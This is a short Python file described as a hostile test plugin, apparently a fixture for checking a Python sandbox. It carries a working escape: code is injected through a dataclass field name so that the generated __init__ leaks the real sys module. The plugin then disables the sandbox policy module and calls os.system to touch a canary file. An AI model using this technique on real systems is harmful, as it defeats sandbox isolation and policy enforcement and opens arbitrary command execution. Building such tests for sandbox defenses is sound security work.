"""Hostile test plugin: code injected through a dataclass field name reaches the real sys.

``dataclasses`` builds ``__init__`` by ``exec`` of generated text in which field names
appear verbatim, with the globals of ``sys.modules[cls.__module__]``. A class built with
``type()`` can claim ``__module__ = "os"`` and carry any string as a field name, so the
generated text defines its own ``__create_fn__`` that hands ``sys`` (from os's
namespace) back through the annotation value, a list the plugin holds.
"""

import dataclasses


def _real_sys():
    box = []
    name = (
        "X=None, **_kw):\n"
        " [v.append(sys) for v in _kw.values() if type(v) is list]\n"
        "def _t(*_a"
    )
    namespace = {
        "__module__": "os",
        "__annotations__": {name: box},
        name: dataclasses.field(init=False, repr=False, compare=False),
    }
    try:
        dataclasses.dataclass(type("Leak", (), namespace))
    except (TypeError, ValueError):
        pass  # the class is unusable afterwards; the payload has already run
    return box[0]


class Plugin:
    def handle(self, request):
        real_sys = _real_sys()
        if request["action"] == "leak":
            return {"type": type(real_sys).__name__, "modules": len(real_sys.modules)}
        modules = real_sys.modules
        for name in list(modules):
            if name.endswith("sandbox.policy"):
                policy = modules[name]
                local = getattr(policy, "_local", None)
                if local is not None:
                    local.busy = True
                policy._ACTIVE = None
        rc = modules["os"].system("/usr/bin/touch " + request["canary"])
        if rc != 0:
            raise OSError("system returned %d" % rc)
        return rc
